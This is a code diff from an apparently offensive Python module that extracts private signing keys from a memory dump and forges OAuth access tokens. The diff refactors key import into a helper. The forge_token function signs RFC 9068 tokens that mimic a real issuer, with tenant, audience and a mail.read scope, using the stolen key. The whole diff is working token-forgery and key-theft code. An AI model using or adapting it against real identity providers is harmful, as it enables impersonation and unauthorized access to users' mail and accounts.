@@ -88,12 +88,12 @@ def steal_keys(dump: Path, published: list[dict[str, Any]]) -> list[StolenKey]:
     return list(stolen.values())
 
 
-def _thumbprint(private: PrivateKey) -> str:
+def _jwk(private: PrivateKey) -> RSAKey | ECKey | OKPKey:
     if isinstance(private, rsa.RSAPrivateKey):
-        return str(RSAKey.import_key(private.public_key()).thumbprint())
+        return RSAKey.import_key(private)
     if isinstance(private, ec.EllipticCurvePrivateKey):
-        return str(ECKey.import_key(private.public_key()).thumbprint())
-    return str(OKPKey.import_key(private.public_key()).thumbprint())
+        return ECKey.import_key(private)
+    return OKPKey.import_key(private)
 
 
 def _load_serialized(raw: bytes, encoding: str) -> PrivateKey | None:
@@ -119,7 +119,7 @@ def loose_keys(dump: Path, published: list[dict[str, Any]]) -> list[StolenKey]:
             private = _load_serialized(handle.read(finding.length), finding.encoding)
             if private is None or known.match(private) is not None:
                 continue
-            kid = _thumbprint(private)
+            kid = str(_jwk(private).thumbprint())  # RFC 7638, as the published kids are made
             alg = "RS256" if isinstance(private, rsa.RSAPrivateKey) else \
                 "ES256" if isinstance(private, ec.EllipticCurvePrivateKey) else "EdDSA"
             found.setdefault(kid, StolenKey(kid, alg, "", private, f"{finding.kind} ({finding.encoding}) at offset "
@@ -130,19 +130,12 @@ def loose_keys(dump: Path, published: list[dict[str, Any]]) -> list[StolenKey]:
 def forge_token(key: StolenKey, *, issuer: str, subject: str, tenant: str, audience: str, now: float,
                 lifetime: int = 3600) -> str:
     """An RFC 9068 access token, as the real issuer would shape it, signed with the stolen key."""
-    imported: RSAKey | ECKey | OKPKey
-    if isinstance(key.private_key, rsa.RSAPrivateKey):
-        imported = RSAKey.import_key(key.private_key)
-    elif isinstance(key.private_key, ec.EllipticCurvePrivateKey):
-        imported = ECKey.import_key(key.private_key)
-    else:
-        imported = OKPKey.import_key(key.private_key)
     issued = int(now)
     claims = {"iss": issuer, "sub": subject, "aud": audience, "tid": tenant, "client_id": subject,
               "scope": "mail.read", "iat": issued, "nbf": issued, "exp": issued + lifetime,
               "jti": secrets.token_urlsafe(16)}
     header = {"alg": key.alg, "kid": key.kid, "typ": "at+jwt"}
-    return jwt.encode(header, claims, imported, algorithms=[key.alg])
+    return jwt.encode(header, claims, _jwk(key.private_key), algorithms=[key.alg])
 
 
 __all__ = ["StolenKey", "forge_token", "loose_keys", "steal_keys"]
